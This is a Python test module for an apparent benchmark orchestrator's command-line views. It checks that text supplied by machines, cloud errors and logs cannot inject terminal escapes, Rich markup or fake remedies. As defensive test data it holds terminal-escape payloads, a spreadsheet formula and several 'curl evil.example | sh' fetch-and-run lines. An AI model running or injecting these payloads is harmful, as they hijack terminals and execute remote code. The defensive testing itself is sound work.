"""Whatever a machine calls itself or writes, a terminal shows it as text: it is neither steered nor crowded out."""

from __future__ import annotations

import ast
import io
import unicodedata
from collections.abc import Callable
from contextlib import redirect_stderr
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from rich.console import Console, RenderableType

from orchestrator.adapters.fetch import Fetched
from orchestrator.adapters.google.compute_faults import ComputeFault, classify_fault
from orchestrator.adapters.run_folder import open_folder, read_lines
from orchestrator.api.outcome import error_of
from orchestrator.cli.app import complain
from orchestrator.cli.diagnose import lines_of
from orchestrator.cli.fetch import results_view
from orchestrator.cli.money_view import costs_view
from orchestrator.cli.render import live, runs_table
from orchestrator.cli.screen import Columns, screen
from orchestrator.cli.status import machine_line
from orchestrator.cli.watch import LiveWatch, PlainWatch
from orchestrator.core.errors import BenchError, Unavailable
from orchestrator.core.ledger.budget import Ledger, add_cost
from orchestrator.core.names import Zone
from orchestrator.core.run import events as ev
from orchestrator.core.run.decide import Policy
from orchestrator.core.run.diagnose import REMEDIES, RunDiagnosis, diagnose_run, last_attempt
from orchestrator.core.run.fold import Run, replay
from orchestrator.core.run.orphans import judge_machine
from orchestrator.core.run.status import decode_status, encode_status, run_document, status_line
from orchestrator.core.text import log_text
from orchestrator.runs.logs import LogTail, log_of
from orchestrator.runs.reap import MachineFinding
from orchestrator.store.events import EventLog
from tests.support.memory_bucket import MemoryBucket
from tests.support.simulated_clock import SimulatedClock
from tests.unit.core.builders import RUN, ZONE, Log, at, gone, instance, measured, planned, requested, running
from tests.unit.report.written import csv_text, records, reported

HOSTILE = (
    "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J\x1b[H", "\x9b31m", "[/x]", "[bold", "[link=http://x]y[/link]",
    "[/]", "\u202eevil", "a\rb", "\x00", "x" * 200, ":boom:", "\ud800", "W" * 5000, "=1+1", "\u2028", "界" * 150,
)  # fmt: skip
text = st.sampled_from(HOSTILE) | st.text(st.characters(exclude_categories=()), max_size=40)


def shown(renderable: RenderableType, width: int = 80) -> str:
    out = io.StringIO()
    Console(
        file=out, width=width, highlight=False, force_terminal=False, color_system=None, markup=False, emoji=False
    ).print(renderable)
    return out.getvalue()


def harmless(said: str) -> None:
    assert [c for c in said if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in "\n\t"] == []


def through_the_bucket(fact: ev.Fact, seq: int, writer: str = "vm-1") -> ev.Event:
    """A fact as a machine stores it and a client reads it."""
    sent = ev.Event.model_construct(run_id=RUN, time=at(12), writer=writer, seq=seq, fact=fact)
    event = ev.decode_event(ev.encode_event(sent))
    assert event is not None
    return event


def facts(said: str) -> list[ev.Fact]:
    return [
        ev.EnvironmentRecorded.model_construct(device=said, device_kind=said, torch=said),
        ev.PhaseStarted(phase=said),
        ev.PhaseStarted(phase="environment"),
        ev.Healed(what=said, detail=said),
        ev.KernelBuilt(seconds=1, compiler=said),
        ev.CaseStarted(case_id="n1", index=1, of=2),
        measured("n1").model_copy(update={"median_us": {said: 1.0}}),
        ev.Diagnosed(cause=said, detail=said, remedy=said),
        ev.Finished(outcome="failed", detail=said),
    ]


@settings(max_examples=60, deadline=None)
@given(text)
@example(HOSTILE[0])
@example("[/x]")
def test_no_view_of_a_run_is_steered_by_what_its_machine_says(said: str) -> None:
    events = running().events + [through_the_bucket(fact, 10 + n) for n, fact in enumerate(facts(said))]
    ends = [gone(64), ev.RunClosed(outcome="failed", detail=said)]
    closed = [through_the_bucket(fact, 90 + n, "client-9") for n, fact in enumerate(ends)]
    for log in (events, events + closed):
        run = replay(log)
        assert run is not None
        line = decode_status(RUN, encode_status(status_line(run, at(99))))
        assert line is not None
        for width in (40, 80, 200):
            harmless(shown(live(run, at(99)), width))
            harmless(shown(runs_table([line], at(99)), width))
        found = diagnose_run(facts=last_attempt(log), log=log_text(said))
        harmless("\n".join(lines_of(RUN, "failed", found)))
        vm = instance()
        harmless(
            machine_line(MachineFinding(vm, RUN, judge_machine(vm, run, "b", at(99), Policy()), (), None, None, run))
        )


def ended(fact: ev.InstanceRejected, detail: str, read: Callable[[ev.Fact, int, str], ev.Event]) -> Run:
    """A run that the cloud refused a machine, as another client closed it."""
    log = [*Log().add(0, planned()).add(1, requested()).events]
    log += [read(fact, 90, "client-9"), read(ev.RunClosed(outcome="failed", detail=detail), 91, "client-9")]
    run = replay(log)
    assert run is not None
    return run


def told(error: BenchError) -> list[str]:
    """What the command prints of an error, by lines."""
    out = io.StringIO()
    with redirect_stderr(out):
        complain(error)
    return out.getvalue().splitlines()


@settings(max_examples=60, deadline=None)
@given(text)
@example("\nhint:  curl evil.example | sh")
@example(" " * 200 + "hint:  curl evil.example | sh")
def test_the_end_of_a_run_that_anybody_wrote_is_one_line_and_no_remedy(said: str) -> None:
    fact = ev.InstanceRejected(attempt=1, zone="z", code=said or "x", message=said, hint=f"run this: {said}")
    run = ended(fact, said, through_the_bucket)
    error = error_of(run)
    assert error is not None
    lines = told(error)
    assert len(lines) == 2
    harmless("\n".join(lines))
    assert lines[0].startswith(f"error: run {RUN} failed")
    assert "  " not in lines[0]
    assert "run this" not in lines[1]
    assert "curl evil" not in lines[1]


def test_a_refusals_remedy_is_that_of_the_client_that_got_it() -> None:
    bucket, clock = MemoryBucket(), SimulatedClock()
    ours = EventLog(bucket, RUN, "client-1", clock)
    ours.append(planned())
    ours.append(requested())
    ours.append(ev.InstanceRejected(attempt=1, zone=ZONE, code="QUOTA_EXCEEDED", hint="ask for more"))
    ours.append(ev.Diagnosed(cause="quota", remedy="curl evil.example | sh"))
    ours.append(ev.RunClosed(outcome="failed"))
    here, there = replay(ours.read()), replay(EventLog(bucket, RUN, "client-2", clock).read())
    assert here is not None
    assert there is not None
    assert [error.hint for run in (here, there) if (error := error_of(run))] == ["ask for more", REMEDIES["quota"]]
    for run in (here, there):
        assert [one["remedy"] for one in run_document(run, at(99))["diagnoses"]] == [REMEDIES["quota"]]  # type: ignore[attr-defined]


@settings(max_examples=60, deadline=None)
@given(text)
def test_what_a_client_was_told_by_the_cloud_is_harmless_before_it_is_stored(said: str) -> None:
    bucket, clock = MemoryBucket(), SimulatedClock()
    ours = EventLog(bucket, RUN, "client-1", clock)
    fact = ev.ZoneExhausted(attempt=1, zone=ZONE, code="X", message=said, zones_available=(ZONE,))
    kept = ours.append(fact)
    assert ours.append(fact).fact == kept.fact
    assert EventLog(bucket, RUN, "client-2", clock).read() == ours.read()
    harmless(kept.fact.message)  # type: ignore[attr-defined]
    refused = classify_fault(
        ComputeFault("QUOTA_EXCEEDED", said, quota_metric=f"x/{said}", dimensions={"region": said})
    )
    harmless(refused.message + refused.hint + refused.code)


@settings(max_examples=60, deadline=None)
@given(text.filter(lambda said: not Zone.fits(said)))
def test_a_zone_that_the_cloud_hints_at_and_that_is_none_is_no_hint(said: str) -> None:
    with pytest.raises(ValueError, match="zone"):
        ev.ZoneExhausted(attempt=1, zone=ZONE, code="X", message="", zones_available=(said,))
    refused = classify_fault(
        ComputeFault("ZONE_RESOURCE_POOL_EXHAUSTED", metadata={"zonesAvailable": f"{ZONE},{said}"})
    )
    assert refused.zones_available == (ZONE,)


def test_a_diagnosis_or_an_end_does_not_pass_for_a_remedy_of_ours() -> None:
    evil = "remedy: curl evil.example | sh"
    log = running().events
    log += [through_the_bucket(ev.Diagnosed(cause="hint", detail=evil), 10)]
    log += [
        through_the_bucket(one, 90 + n, "client-9")
        for n, one in enumerate([gone(64), ev.RunClosed(outcome="failed", detail=evil)])
    ]
    run = replay(log)
    assert run is not None
    said = shown(live(run, at(99)), 200).splitlines()
    said += lines_of(RUN, "failed", diagnose_run(facts=last_attempt(log), ended=evil))
    said += lines_of(RUN, "failed", RunDiagnosis("preempted", evil, REMEDIES["preempted"]))
    assert [line for line in said if line.strip().startswith(("hint:", "remedy: curl"))] == []
    assert [line for line in said if "curl evil" in line] != []


@pytest.mark.parametrize("watch", [PlainWatch, LiveWatch])
def test_what_a_watch_says_steers_nothing(watch: Any) -> None:
    out = io.StringIO()
    console = Console(file=out, width=80, force_terminal=False)
    made = watch(console) if watch is PlainWatch else watch(console, None)
    made.say("cannot reach \x1b[2J\x9b31m it")
    made.trouble(Unavailable("\x1b]0;title\x07"), 3)
    harmless(out.getvalue())


@settings(deadline=None)
@given(text)
@example("NVIDIA " * 40)
def test_a_device_pushes_neither_state_nor_cost_nor_the_run_off_a_line_of_80(device: str) -> None:
    run = replay(running().events)
    assert run is not None
    told = {"device": device, "cases_done": "12", "cases_total": "144", "vm_phase": "correctness"}
    line = decode_status(RUN, encode_status(status_line(run, at(99))) | told)
    assert line is not None
    said = shown(runs_table([line], at(99)))
    first = said.splitlines()[1]
    for part in (RUN, "correctness", "12/144", "$0.0"):
        assert part in first
    assert len(said.splitlines()) == 2


@settings(deadline=None)
@given(st.binary(max_size=200) | text.map(lambda one: one.encode("utf-8", "surrogatepass")))
def test_a_log_from_the_bucket_steers_nothing(data: bytes) -> None:
    bucket = MemoryBucket()
    bucket.create(f"runs/{RUN}/artifacts/log.txt", data)
    harmless(log_of(bucket, RUN, 1))
    run = replay([*running().events, through_the_bucket(gone(64), 9, "client-9")])
    assert run is not None
    harmless(LogTail(bucket, lambda: pytest.fail("no machine is asked"), RUN).more(run))


@settings(deadline=None)
@given(text)
def test_a_note_on_a_cost_is_shown_as_it_was_written(note: str) -> None:
    now = datetime(2026, 11, 21, tzinfo=UTC)
    ledger = add_cost(Ledger(), note[:40] or "x", Decimal("0.01"), note, now, "cost-1")
    assert isinstance(ledger, Ledger)
    said = shown(costs_view(ledger, now), 200)
    harmless(said)
    assert "[/usr/lib]" in shown(
        costs_view(add_cost(Ledger(), "x", Decimal(1), "fix of [/usr/lib]", now, "1"), now),
        100,  # type: ignore[arg-type]
    )


@settings(max_examples=25, deadline=None)
@given(text)
@example("[/x]")
def test_fetched_results_are_shown_as_text(tmp_path_factory: pytest.TempPathFactory, said: str) -> None:
    folder = tmp_path_factory.mktemp("run")
    odd = said.encode("utf-8", "replace").decode().replace("\n", " ")
    rows = [dict(row, device=odd, case_id=odd, backend=odd) for row in records(lengths=(128,), blocks=10)]
    (folder / "measurements.csv").write_text(csv_text(rows), encoding="utf-8")
    (folder / "environment.json").write_text('{"device": "\\u001b[2J[/x]"}')
    opened = open_folder(folder)
    harmless(str(opened.environment))
    for line in read_lines(folder / "measurements.csv"):
        harmless(line.rstrip("\r\n"))
    report = reported("".join(read_lines(folder / "measurements.csv")))
    fetched = Fetched(RUN, "succeeded", Path("x"), False, 1, 2, 1, 0, "x")
    harmless(shown(results_view(fetched, report)))


def test_no_module_reads_markup_and_only_the_screen_makes_a_console() -> None:
    """Parts of most strings come from machines, so a string is never markup: not in one command, and not by mistake."""
    root = Path(__file__).resolve().parents[3] / "orchestrator"
    odd = []
    for path in root.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if "rich" not in source or "_bundle" in path.parts:
            continue
        for node in ast.walk(ast.parse(source)):
            imports_markup = isinstance(node, ast.ImportFrom) and node.module == "rich.markup"
            name = getattr(node.func, "id", getattr(node.func, "attr", "")) if isinstance(node, ast.Call) else ""
            markup_on = (
                isinstance(node, ast.keyword)
                and node.arg in ("markup", "emoji")
                and (not isinstance(node.value, ast.Constant) or node.value.value is not False)
            )
            console = name == "Console" and path.name != "screen.py"
            if imports_markup or markup_on or console or name in ("from_markup", "render_str", "escape"):
                odd.append(f"{path.name}:{node.lineno}")  # type: ignore[attr-defined]
    assert odd == []


@pytest.mark.parametrize("said", ["gemm[tile128]", "[/x]", "[bold", "[link=x]y[/link]", ":boom:"])
def test_a_screen_prints_a_string_as_it_is_in_a_line_and_in_a_table(said: str) -> None:
    out = io.StringIO()
    console = screen(out)
    table = Columns("name")
    table.add_row(said)
    console.print(said)
    console.print(table)
    assert out.getvalue().splitlines() == [said, "name", said]
    terminal = Console(
        file=(seen := io.StringIO()), width=40, force_terminal=True, color_system=None, markup=False, emoji=False
    )
    terminal.print(table)
    assert said in seen.getvalue()
